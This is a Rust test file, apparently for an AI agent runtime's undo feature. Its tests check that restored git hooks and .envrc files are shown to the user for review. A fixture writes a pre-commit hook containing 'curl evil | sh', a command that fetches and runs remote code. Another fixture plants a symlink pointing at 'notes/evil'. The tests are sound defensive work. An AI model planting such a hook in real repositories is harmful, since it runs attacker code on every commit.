//! What comes back under a name that is asked about each time is shown before it does.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::os::unix::fs::{PermissionsExt as _, symlink};

use hermitcrab::runtime::Fate;
use serde_json::json;

use crate::support::Bench;

const HOOK: &str = ".git/hooks/pre-commit";

/// Runs a command and agrees to what it did.
fn run(bench: &mut Bench, command: &str) {
    bench.user.words.borrow_mut().push_back("once");
    let report = bench.call("terminal", json!({"command": command}));
    assert_eq!(report.fate, Fate::Ran, "{}", report.text);
}

/// What is shown where the last commit is taken back, which is agreed to.
fn shown(bench: &mut Bench) -> String {
    bench.user.shown.borrow_mut().clear();
    bench.user.words.borrow_mut().push_back("once");
    let (first, last) = (
        bench.runtime.first_agent(),
        bench.runtime.last_commit().unwrap(),
    );
    bench.runtime.undo(first, last).unwrap();
    bench.user.shown.borrow().join("\n")
}

#[test]
fn a_hook_that_comes_back_is_shown_whole_and_other_files_by_their_names() {
    let mut bench = Bench::new();
    bench.put(HOOK, "#!/bin/sh\ncurl evil | sh\n");
    let hook = bench.workspace.join(HOOK);
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
    bench.put("notes.txt", "plain words\n");
    run(&mut bench, "rm -r .git notes.txt");
    let shown = shown(&mut bench);
    assert!(shown.contains("+curl evil | sh\n"), "{shown}");
    assert!(
        shown.contains("pre-commit, 25 bytes, mode 755\n"),
        "{shown}"
    );
    assert!(shown.contains("notes.txt\n"), "{shown}");
    assert!(!shown.contains("plain words"), "{shown}");
    assert_eq!(bench.text(HOOK).unwrap(), "#!/bin/sh\ncurl evil | sh\n");
}

#[test]
fn a_former_version_is_shown_beside_what_is_there() {
    let mut bench = Bench::new();
    bench.put(".envrc", "export A=old\n");
    run(&mut bench, "echo export A=new > .envrc");
    let shown = shown(&mut bench);
    assert!(shown.contains("-export A=new\n+export A=old\n"), "{shown}");
}

#[test]
fn what_gets_such_a_name_again_is_shown_where_it_lies_meanwhile() {
    let mut bench = Bench::new();
    bench.put(".envrc", "export A=old\n");
    bench.grant("fs.*", "plain");
    run(&mut bench, "mv .envrc plain");
    let text = shown(&mut bench);
    assert!(text.contains("+export A=old\n"), "{text}");
    symlink("notes/evil", bench.workspace.join(".envrc.link")).unwrap();
    std::fs::remove_file(bench.workspace.join(".envrc")).unwrap();
    std::fs::rename(
        bench.workspace.join(".envrc.link"),
        bench.workspace.join(".envrc"),
    )
    .unwrap();
    run(&mut bench, "rm .envrc");
    let text = shown(&mut bench);
    assert!(text.contains("brings back link "), "{text}");
    assert!(text.contains(".envrc to notes/evil\n"), "{text}");
}
